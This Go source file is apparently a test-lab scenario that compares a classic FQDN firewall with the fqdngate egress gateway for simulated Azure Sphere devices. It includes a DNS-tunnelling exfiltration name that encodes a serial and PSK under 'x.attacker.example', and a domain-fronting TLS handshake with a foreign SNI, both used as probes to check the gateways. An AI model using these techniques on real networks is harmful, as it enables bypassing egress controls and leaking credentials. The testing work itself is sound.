// Package scenario runs the support request's story in the CDN lab: the
// same Azure Sphere device behind the customer's classic FQDN firewall and
// behind fqdngate, side by side, over several CDN rotation periods, and
// reports what each device could reach.
package scenario

import (
	"context"
	"crypto/tls"
	"encoding/base32"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/miekg/dns"

	"github.com/fqdngate/fqdngate/internal/catalog"
	"github.com/fqdngate/fqdngate/internal/lab"
)

// Hub is the lab's IoT hub name.
const Hub = "contoso-fleet"

// Profiles are the catalog profiles both gateways allow: the customer's
// firewall was configured from the same documentation.
var Profiles = []string{"azure-sphere", "azure-sphere-ntp", "azure-iot-hub"}

// Options set the run's timing.
type Options struct {
	// Fqdngate is the path of the fqdngate binary to run in the gateway.
	Fqdngate string
	// Duration of the device traffic.
	Duration time.Duration
	// TTL of the CDN's answers, which is also its rotation period.
	TTL time.Duration
	// Refresh is how often the classic firewall re-resolves its names.
	Refresh time.Duration
	// Round is the time between a device's rounds over its endpoints.
	Round time.Duration
	// Progress, if set, gets a line per stage.
	Progress io.Writer
}

// Defaults are the demo's: 20 s TTLs as in the support request, three
// rotation periods.
func Defaults() Options {
	return Options{Duration: 60 * time.Second, TTL: 20 * time.Second, Refresh: 10 * time.Second, Round: 2 * time.Second}
}

// Result is what both devices saw, and what the fake internet saw.
type Result struct {
	Options
	Classic, Gate *lab.DeviceReport
	// ClassicResolved is every address the classic firewall ever allowed.
	ClassicResolved []netip.Addr
	// ClassicBlockedPackets is the classic firewall's drop counter.
	ClassicBlockedPackets int
	// GateDrops is fqdngate's drop counter.
	GateDrops int
	// ClassicExfil and GateExfil are the names with data in their labels
	// each device asked for (one per side, so the fake internet's count
	// tells the sides apart); the Upstream counts say how often each
	// reached it.
	ClassicExfil, GateExfil                 string
	ClassicExfilUpstream, GateExfilUpstream int
	// Outside is a name outside every profile.
	Outside string
	// GateLog is fqdngate's log, for failures.
	GateLog string
	// FrontingName is the allowed CDN name each device resolved before it
	// sent FrontingSNI to the address it got; ClassicFronting and
	// GateFronting are what each gateway made of it.
	FrontingName                  string
	ClassicFronting, GateFronting Fronting
}

// FrontingSNI is another site's name, served by the same CDN edge (the
// lab's edges serve every name, as a real one does).
const FrontingSNI = "www.other-site.example"

// Fronting is the outcome of one domain-fronting attempt.
type Fronting struct {
	Addr netip.Addr
	// Passed: the TLS handshake with FrontingSNI completed; Reset: the
	// gateway reset the connection.
	Passed, Reset bool
	Err           string
	// Reason and Message are fqdngate's explanation of a reset (its
	// /api/v1/explain for the address, the device and tcp/443).
	Reason, Message string
}

// Endpoints are the device's endpoints, from the catalog: every host and
// port of the profiles, except AMQP (5671), which a Sphere device does not
// use, and the hub's 8883, which is the long-lived session.
func Endpoints() (eps []lab.Endpoint, session lab.Endpoint, err error) {
	cat, err := catalog.Default()
	if err != nil {
		return nil, session, err
	}
	seen := make(map[lab.Endpoint]bool)
	for _, p := range Profiles {
		got, err := cat.Resolve(p, catalog.CloudPublic, map[string]string{"iot_hub": Hub})
		if err != nil {
			return nil, session, err
		}
		for _, ep := range got {
			for _, pr := range ep.Ports {
				e := lab.Endpoint{Host: ep.Pattern.Text, Proto: protoName(pr.Proto), Port: pr.Lo}
				switch {
				case e.Port == 5671:
					continue
				case p == "azure-iot-hub" && e.Port == lab.PortMQTT:
					session = e
					continue
				case seen[e]:
					continue
				}
				seen[e] = true
				eps = append(eps, e)
			}
		}
	}
	return eps, session, nil
}

func protoName(p uint8) string {
	if p == syscall.IPPROTO_UDP {
		return "udp"
	}
	return "tcp"
}

// gateConfig is fqdngate's configuration in the lab: the catalog profiles
// and the tightest lifetimes (no min_ttl, 5 s grace), so that every
// address expires within seconds of its TTL and rotation is fully
// exercised.
func gateConfig(stateDir string) string {
	return fmt.Sprintf(`mode: enforce
listen:
  dns: ["%s:53"]
upstreams: ["%s"]
params:
  iot_hub: %s
enforcer:
  min_ttl: 0s
  grace: 5s
  hold: 2s
  verify: enforce
clients:
  - name: sphere-devices
    cidrs: ["%s"]
    profiles: [%s]
state_dir: %s
log:
  level: debug  # every answer with its addresses: shown when a run fails
`, lab.GateGW, lab.UpstreamDNS, Hub, lab.GateDevNet, strings.Join(Profiles, ", "), stateDir)
}

// Env is the lab with both gateways running and no devices yet.
type Env struct {
	Lab       *lab.Lab
	Classic   *lab.Classic
	Endpoints []lab.Endpoint
	Session   lab.Endpoint
	fwd       *lab.Forwarder
	gate      *gate
	cancel    context.CancelFunc
}

// Start builds the lab and starts the fake internet, the classic firewall
// with its corporate DNS, and fqdngate. Close undoes all of it.
func Start(ctx context.Context, opt Options) (env *Env, err error) {
	progress := func(format string, args ...any) {
		if opt.Progress != nil {
			fmt.Fprintf(opt.Progress, format+"\n", args...)
		}
	}
	eps, session, err := Endpoints()
	if err != nil {
		return nil, err
	}
	l, err := lab.Up(lab.SphereSites(Hub), opt.TTL)
	if err != nil {
		return nil, err
	}
	ctx, cancel := context.WithCancel(ctx)
	env = &Env{Lab: l, Endpoints: eps, Session: session, cancel: cancel}
	defer func() {
		if err != nil {
			err = errors.Join(err, env.Close())
			env = nil
		}
	}()
	progress("lab up: fake internet with geo-DNS (%d geo pools, TTL %s, rotating), HTTPS/MQTT/HTTP/NTP services, lab CA", lab.Geos, opt.TTL)

	upstream := netip.AddrPortFrom(lab.UpstreamDNS, 53)
	if env.fwd, err = lab.StartForwarder(l.ClassicGW, netip.AddrPortFrom(lab.ClassicGW, 53).String(), upstream, lab.CorporateDNS); err != nil {
		return env, err
	}
	if env.Classic, err = lab.StartClassic(ctx, l.ClassicGW, append(slices.Clone(eps), session), upstream, lab.ClassicUplink, opt.Refresh); err != nil {
		return env, err
	}
	progress("classic firewall up: %d allowed endpoints from the same profiles, re-resolved every %s from its own address", len(eps)+1, opt.Refresh)
	if env.gate, err = startGate(ctx, l, opt.Fqdngate); err != nil {
		return env, err
	}
	progress("fqdngate up: profiles %s", strings.Join(Profiles, ", "))
	return env, nil
}

// Close stops fqdngate (SIGTERM), the classic firewall and the lab, and
// deletes every namespace.
func (e *Env) Close() error {
	e.cancel()
	var errs []error
	if e.gate != nil {
		errs = append(errs, e.gate.stop())
	}
	if e.Classic != nil {
		e.Classic.Wait()
	}
	if e.fwd != nil {
		e.fwd.Stop()
	}
	errs = append(errs, e.Lab.Close())
	return errors.Join(errs...)
}

// GateLog is fqdngate's log so far.
func (e *Env) GateLog() string { return e.gate.log.String() }

// Run builds the lab, runs both devices at once for opt.Duration and
// tears the lab down.
func Run(ctx context.Context, opt Options) (res *Result, err error) {
	env, err := Start(ctx, opt)
	if err != nil {
		return nil, err
	}
	defer func() { err = errors.Join(err, env.Close()) }()
	l := env.Lab
	res = &Result{Options: opt, Outside: "telemetry.vendor.example",
		ClassicExfil: exfilName("AS-0041"), GateExfil: exfilName("AS-0042")}
	devOpt := lab.DeviceOptions{
		Endpoints: env.Endpoints, Session: env.Session, SessionEvery: 2 * time.Second,
		Round: opt.Round, Timeout: time.Second, Roots: l.CA.Pool(),
	}
	runCtx, stopRun := context.WithTimeout(ctx, opt.Duration)
	defer stopRun()
	if opt.Progress != nil {
		fmt.Fprintf(opt.Progress, "devices running for %s (%d endpoints each, a round every %s, one long-lived %s session)\n",
			opt.Duration, len(env.Endpoints), opt.Round, env.Session)
	}
	var wg sync.WaitGroup
	for _, side := range []struct {
		ns    *lab.NS
		dns   netip.Addr
		exfil string
		out   **lab.DeviceReport
	}{{l.ClassicDev, lab.ClassicGW, res.ClassicExfil, &res.Classic}, {l.GateDev, lab.GateGW, res.GateExfil, &res.Gate}} {
		o := devOpt
		o.DNS = netip.AddrPortFrom(side.dns, 53)
		o.Probes = []string{side.exfil, res.Outside}
		wg.Add(1)
		go func() { defer wg.Done(); *side.out = lab.NewDevice(side.ns, o).Run(runCtx) }()
	}
	wg.Wait()
	res.ClassicResolved = env.Classic.ResolvedAddrs()
	if res.ClassicBlockedPackets, err = env.Classic.BlockedPackets(); err != nil {
		return nil, err
	}
	if res.GateDrops, err = lab.CounterPackets(l.GateGW, "fqdngate", "drops"); err != nil {
		return nil, err
	}
	// An exfiltration name left its gateway if the fake internet saw it.
	res.ClassicExfilUpstream = l.DNS.Count(res.ClassicExfil)
	res.GateExfilUpstream = l.DNS.Count(res.GateExfil)
	for _, e := range env.Endpoints {
		if e.Proto == "tcp" && e.Port == lab.PortHTTPS && !strings.Contains(e.Host, "*") {
			res.FrontingName = e.Host
			break
		}
	}
	res.ClassicFronting = front(l.ClassicDev, lab.ClassicGW, res.FrontingName, l.CA)
	res.GateFronting = front(l.GateDev, lab.GateGW, res.FrontingName, l.CA)
	if res.GateFronting.Reset {
		explainReset(l.GateGW, lab.GateDevice, &res.GateFronting)
	}
	res.GateLog = env.GateLog()
	return res, nil
}

// front resolves name through the gateway at gw and sends FrontingSNI
// to the address it got. A timeout (the classic firewall's rotation
// blocks some addresses) is tried again, up to three times.
func front(ns *lab.NS, gw netip.Addr, name string, ca *lab.CA) Fronting {
	var f Fronting
	for range 3 {
		f = Fronting{}
		var addrs []netip.Addr
		err := ns.Do(func() error {
			m := new(dns.Msg)
			m.SetQuestion(dns.Fqdn(name), dns.TypeA)
			r, _, err := (&dns.Client{Timeout: time.Second}).Exchange(m, netip.AddrPortFrom(gw, 53).String())
			if err != nil {
				return err
			}
			for _, rr := range r.Answer {
				if a, ok := rr.(*dns.A); ok {
					if ad, ok := netip.AddrFromSlice(a.A.To4()); ok {
						addrs = append(addrs, ad)
					}
				}
			}
			return nil
		})
		if err != nil || len(addrs) == 0 {
			f.Err = fmt.Sprintf("dns: %v", err)
			continue
		}
		f.Addr = addrs[0]
		var c net.Conn
		if err := ns.Do(func() error {
			var err error
			c, err = net.DialTimeout("tcp", netip.AddrPortFrom(f.Addr, lab.PortHTTPS).String(), time.Second)
			return err
		}); err != nil {
			f.Err = err.Error()
			continue
		}
		_ = c.SetDeadline(time.Now().Add(2 * time.Second))
		tc := tls.Client(c, &tls.Config{ServerName: FrontingSNI, RootCAs: ca.Pool()})
		err = tc.Handshake()
		c.Close()
		switch {
		case err == nil:
			f.Passed = true
			return f
		case errors.Is(err, syscall.ECONNRESET):
			f.Reset, f.Err = true, err.Error()
			return f
		default:
			f.Err = err.Error()
		}
	}
	return f
}

// exfilName is a DNS tunnelling attempt: data in base32 labels under an
// attacker's zone.
func exfilName(serial string) string {
	data := base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString([]byte("serial=" + serial + ";psk=hunter2"))
	return strings.ToLower(data) + ".x.attacker.example"
}

// gate is the fqdngate process in the gateway namespace.
type gate struct {
	ns   *lab.NS
	cmd  *exec.Cmd
	log  *lab.SyncBuffer
	dir  string
	done chan error
}

func startGate(ctx context.Context, l *lab.Lab, binary string) (*gate, error) {
	if binary == "" {
		return nil, errors.New("scenario: no fqdngate binary given")
	}
	dir, err := os.MkdirTemp("", "fqdnlab-")
	if err != nil {
		return nil, err
	}
	cfg := filepath.Join(dir, "fqdngate.yaml")
	if err := os.WriteFile(cfg, []byte(gateConfig(filepath.Join(dir, "state"))), 0o600); err != nil {
		os.RemoveAll(dir)
		return nil, err
	}
	g := &gate{ns: l.GateGW, log: &lab.SyncBuffer{}, dir: dir, done: make(chan error, 1)}
	g.cmd = l.GateGW.Command(binary, "run", "--config", cfg)
	g.cmd.Stderr = g.log
	// If fqdnlab dies, so does the gateway it started.
	g.cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGTERM}
	if err := g.cmd.Start(); err != nil {
		os.RemoveAll(dir)
		return nil, fmt.Errorf("start fqdngate: %w", err)
	}
	go func() { g.done <- g.cmd.Wait() }()
	if err := g.waitReady(ctx, l.GateDev); err != nil {
		return nil, errors.Join(err, g.stop())
	}
	return g, nil
}

// waitReady polls from the device until fqdngate refuses a probe name,
// which it only does once it serves DNS with its policy loaded.
func (g *gate) waitReady(ctx context.Context, dev *lab.NS) error {
	deadline := time.Now().Add(15 * time.Second)
	for {
		select {
		case err := <-g.done:
			g.done <- err
			return fmt.Errorf("fqdngate exited: %v\n%s", err, g.log.String())
		default:
		}
		var r *dns.Msg
		err := dev.Do(func() error {
			m := new(dns.Msg)
			m.SetQuestion("ready-probe.invalid.", dns.TypeA)
			var err error
			r, _, err = (&dns.Client{Timeout: 500 * time.Millisecond}).Exchange(m, netip.AddrPortFrom(lab.GateGW, 53).String())
			return err
		})
		if err == nil && r.Rcode == dns.RcodeNameError {
			return nil
		}
		if time.Now().After(deadline) || ctx.Err() != nil {
			return fmt.Errorf("fqdngate not answering after 15s (last: %v)\n%s", err, g.log.String())
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// stop ends fqdngate with SIGTERM, as systemd would.
func (g *gate) stop() error {
	defer os.RemoveAll(g.dir)
	_ = g.cmd.Process.Signal(syscall.SIGTERM)
	select {
	case err := <-g.done:
		if err != nil {
			return fmt.Errorf("fqdngate: %v\n%s", err, g.log.String())
		}
		return nil
	case <-time.After(10 * time.Second):
		_ = g.cmd.Process.Kill()
		return fmt.Errorf("fqdngate did not stop within 10s of SIGTERM")
	}
}
